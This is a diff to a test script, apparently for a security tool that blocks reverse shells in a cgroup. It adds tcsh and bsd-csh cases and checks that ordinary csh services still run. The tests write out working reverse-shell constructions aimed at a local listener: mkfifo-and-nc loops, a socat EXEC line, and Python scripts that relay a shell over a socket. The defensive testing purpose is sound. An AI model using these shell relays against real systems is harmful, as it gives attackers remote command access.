@@ -31,7 +31,7 @@ else:
 c.settimeout(patience)
 data = b""
 try:
-    c.sendall(b"echo GOT$((40+2))\n")
+    c.sendall(sys.argv[4].encode() + b"\n")
     while b"GOT42" not in data:
         new = c.recv(4096)
         if not new:
@@ -44,10 +44,12 @@ END
 
 # attack COMMAND...: in the cgroup, against an attacker that listens
 patience=40
+sh_line='echo GOT$((40+2))' csh_line='@ x = (40 + 2); echo GOT$x'
+line=$sh_line
 attack() {
 	local attacker pid
 	: >attacker.out
-	$python attacker.py 4320 listen $patience >attacker.out 2>&1 &
+	$python attacker.py 4320 listen $patience "$line" >attacker.out 2>&1 &
 	attacker=$!
 	poll grep -q ready attacker.out
 	timeout 300 /opt/csec/bin/cgexec "$cg" "$@" </dev/null >attack.out 2>&1 &
@@ -68,12 +70,14 @@ socat_script='socat TCP:127.0.0.1:4320 EXEC:"script -qc /bin/sh /dev/null"'
 cat >shell_first.py <<'END'
 import os, select, socket, subprocess, sys, time
 a, b = socket.socketpair()
-p = subprocess.Popen(["/bin/sh"], stdin=b, stdout=b, stderr=b)
+shell = (sys.argv[1:] or ["/bin/sh"])[0]
+r, w = os.pipe() if sys.argv[2:] else (a, b)
+p = subprocess.Popen([shell], stdin=b, stdout=w, stderr=w)
 time.sleep(1)
 s = socket.create_connection(("127.0.0.1", 4320))
 while True:
-    for f in select.select([s, a], [], [])[0]:
-        d = f.recv(4096)
+    for f in select.select([s, r], [], [])[0]:
+        d = s.recv(4096) if f is s else os.read(r if sys.argv[2:] else r.fileno(), 4096)
         if not d:
             sys.exit()
         (a if f is s else s).sendall(d)
@@ -138,6 +142,35 @@ if what == "panes":
 while True:
     for f in select.select([first, second], [], [])[0]:
         os.write(second if f is first else first, os.read(f, 4096))
+END
+# The shell is there first and keeps its descriptors elsewhere.
+csh_fifo() {
+	bash_c "rm -f f; mkfifo f; exec 8<>f; $1 <f 2>&1 | { sleep 1; nc 127.0.0.1 4320 >f; }"
+}
+csh_first() { attack $python $dir/shell_first.py "$@"; }
+# A service with a connection whose csh answers nobody, or has a script.
+cat >csh.py <<'END'
+import os, socket, subprocess, sys, time
+server = socket.create_server(("127.0.0.1", 4324))
+shell, how = sys.argv[1:]
+with open("x.csh", "w") as f:
+    f.write("sleep 2; echo own-42\n")
+a, b = socket.socketpair()
+out = open("csh.out", "w") if how != "script" else subprocess.PIPE
+p = subprocess.Popen([shell] + (["x.csh"] if how == "script" else []), stdout=out, stderr=out,
+                     stdin=b if how == "pair" else subprocess.PIPE)
+b.close()
+time.sleep(1)
+s = socket.create_connection(("127.0.0.1", 4324))
+c = server.accept()[0]
+c.sendall(b"row"); s.recv(10)
+if how == "pair":
+    a.sendall(b"echo own-42\n"); a.close()
+elif how == "pipe":
+    p.stdin.write(b"echo own-42\n"); p.stdin.close()
+text = p.stdout.read().decode() if how == "script" else ""
+p.wait()
+print(text or open("csh.out").read())
 END
 # Input besides a command, options of bash with one dash, a FIFO as a script.
 command_too='rm -f f; mkfifo f; sh -sc : <f 2>&1 | nc 127.0.0.1 4320 >f'
@@ -254,6 +287,13 @@ done
 for name in shell_first socket_later; do
 	contains "without a policy: $name" owned attack $python $dir/$name.py
 done
+line=$csh_line
+for shell in /bin/tcsh /bin/bsd-csh; do
+	contains "without a policy: $shell, fifo" owned csh_fifo $shell
+	contains "without a policy: $shell, first" owned csh_first $shell
+	contains "without a policy: $shell, a pipe for output" owned csh_first $shell pipe
+done
+line=$sh_line
 contains 'without a policy: two terminals' owned attack $python $dir/two.py connected
 for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
 	contains "without a policy: $loader" owned attack $python $dir/loader.py $loader
@@ -286,6 +326,18 @@ is_stopped shell_first attack $python $dir/shell_first.py
 equals 'the event has the peer' 4320 "$(field peer_port)"
 equals 'the shell is its target' sh "$(field target_comm)"
 equals 'and the link' unix "$(field link)"
+line=$csh_line
+for shell in /bin/tcsh /bin/bsd-csh; do
+	is_stopped "$shell, fifo" csh_fifo $shell
+	equals "$shell: it was there first" connect "$(field op)"
+	is_stopped "$shell, first" csh_first $shell
+	is_stopped "$shell, a pipe for output" csh_first $shell pipe
+	for how in script pipe pair; do
+		contains "$shell, $how: the service goes on" own-42 in_cgroup "$cg" $python $dir/csh.py $shell $how
+	done
+done
+line=$sh_line
+equals 'and nothing of that is refused' "$before" "$(counter relays reverse_shell)"
 is_stopped 'two terminals' attack $python $dir/two.py connected
 is_stopped socket_later attack $python $dir/socket_later.py
 for loader in /lib64/ld-linux-x86-64.so.2 $dir/app; do
